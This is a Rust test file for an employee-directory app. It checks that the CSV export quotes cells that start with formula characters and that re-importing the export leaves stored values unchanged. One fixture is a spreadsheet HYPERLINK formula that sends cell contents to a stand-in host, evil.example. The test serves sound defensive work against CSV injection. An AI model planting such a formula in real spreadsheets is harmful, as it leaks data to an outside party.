//! The employee CSV never hands a spreadsheet a formula, and reads back what it wrote (issue 11,
//! item 10).

use gatehouse::db;
use gatehouse::directory::csv_io;
use gatehouse::directory::employees::{self as people, Profile};
use gatehouse::directory::lifecycle;

use crate::helpers::admin::console;
use crate::helpers::{csv, person};

const TITLE: &str = r#"=HYPERLINK("http://evil.example/?d="&A1,"Click")"#;

fn risky(user_name: &str) -> Profile {
    Profile {
        job_title: Some(TITLE.into()),
        mobile_phone: Some("+49 30 1234".into()),
        work_phone: Some("-1 555".into()),
        department: Some("@SUM(1+1)".into()),
        subsidiary: Some("'=already quoted".into()),
        country: Some("'t Hooft land".into()),
        ..person(user_name)
    }
}

#[actix_web::test]
async fn formula_cells_are_quoted_in_the_export_and_read_back_unchanged() {
    let c = console().await;
    let ann = c
        .app
        .write(|conn| lifecycle::create(conn, &c.account.id, risky("ann@acme.com"), &csv()))
        .expect("ann");
    let response = c.app.get_in(&c.browser, "/admin/export.csv").await;
    assert_eq!(response.status(), 200);
    let text = response.text().await.expect("csv");

    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header = reader.headers().expect("header").clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a spreadsheet would run {cell:?}"
            );
        }
    }
    let ann_row = rows
        .iter()
        .find(|r| r.get(0) == Some("ann@acme.com"))
        .expect("ann's row");
    let cell = |column: &str| {
        let at = header.iter().position(|h| h == column).expect("column");
        ann_row.get(at).expect("cell").to_owned()
    };
    assert_eq!(cell("job_title"), format!("'{TITLE}"));
    assert_eq!(cell("mobile_phone"), "'+49 30 1234");
    assert_eq!(cell("subsidiary"), "''=already quoted");
    assert_eq!(
        cell("country"),
        "'t Hooft land",
        "no formula, no quote added"
    );

    // The same file imported again changes nothing: every value is what was stored.
    let parsed = csv_io::parse(text.as_bytes()).expect("parse");
    let summary = db::write(&mut c.app.db.conn().expect("conn"), |conn| {
        csv_io::import(conn, &c.account.id, &parsed, &csv())
    })
    .expect("import");
    assert_eq!((summary.created, summary.updated), (0, 0), "{summary:?}");
    let after = c
        .app
        .write(|conn| people::get(conn, &c.account.id, &ann.id))
        .expect("ann");
    assert_eq!(after.profile(), ann.profile());

    // A new person from such a file gets the values, not the quotes.
    let edited = text.replace("ann@acme.com", "bea@acme.com");
    let parsed = csv_io::parse(edited.as_bytes()).expect("parse");
    db::write(&mut c.app.db.conn().expect("conn"), |conn| {
        csv_io::import(conn, &c.account.id, &parsed, &csv())
    })
    .expect("import bea");
    let bea = c
        .app
        .write(|conn| people::find_by_user_name(conn, &c.account.id, "bea@acme.com"))
        .expect("query")
        .expect("bea");
    assert_eq!(bea.job_title.as_deref(), Some(TITLE));
    assert_eq!(bea.mobile_phone.as_deref(), Some("+49 30 1234"));
    assert_eq!(bea.work_phone.as_deref(), Some("-1 555"));
    assert_eq!(bea.department.as_deref(), Some("@SUM(1+1)"));
    assert_eq!(bea.subsidiary.as_deref(), Some("'=already quoted"));
    assert_eq!(bea.country.as_deref(), Some("'t Hooft land"));
}
